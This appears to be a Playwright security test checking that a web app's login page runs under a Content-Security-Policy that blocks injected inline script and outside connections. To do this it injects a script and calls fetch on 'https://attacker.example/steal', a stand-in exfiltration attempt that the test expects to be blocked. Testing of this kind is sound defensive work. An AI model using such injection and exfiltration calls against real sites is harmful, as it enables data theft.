import { test as base, expect } from "@playwright/test";
import { failOnCspViolations } from "./csp-guard";

/**
 * The pages' Content-Security-Policy in Chromium (issue 13). Every other browser test fails on
 * any CSP violation (e2e/fixtures.ts); this one shows the guard sees one, and that the policy
 * blocks an injected inline script and a connection to another host.
 */
base("the page runs under a CSP that blocks injected inline script and foreign connections", async ({ page }) => {
  const violations = await failOnCspViolations(page);
  const res = await page.goto("/login");
  const policy = res!.headers()["content-security-policy"] ?? "";
  const scriptSrc = policy.split(";").find((d) => d.trim().startsWith("script-src")) ?? "";
  expect(scriptSrc).toContain("'sha256-");
  expect(scriptSrc).not.toContain("'unsafe-inline'");
  // The app hydrated under it: the login form works.
  await expect(page.getByRole("button", { name: "Continue with Email" })).toBeVisible();
  expect(violations).toEqual([]);

  const injected = await page.evaluate(async () => {
    const script = document.createElement("script");
    script.textContent = "window.__injected = true";
    document.body.append(script);
    let connected = true;
    await fetch("https://attacker.example/steal").catch(() => (connected = false));
    return { ran: (window as unknown as { __injected?: boolean }).__injected === true, connected };
  });
  expect(injected).toEqual({ ran: false, connected: false });
  await expect.poll(() => violations.length).toBeGreaterThanOrEqual(2);
  expect(violations.join("\n")).toContain("script-src");
  expect(violations.join("\n")).toContain("connect-src");
});
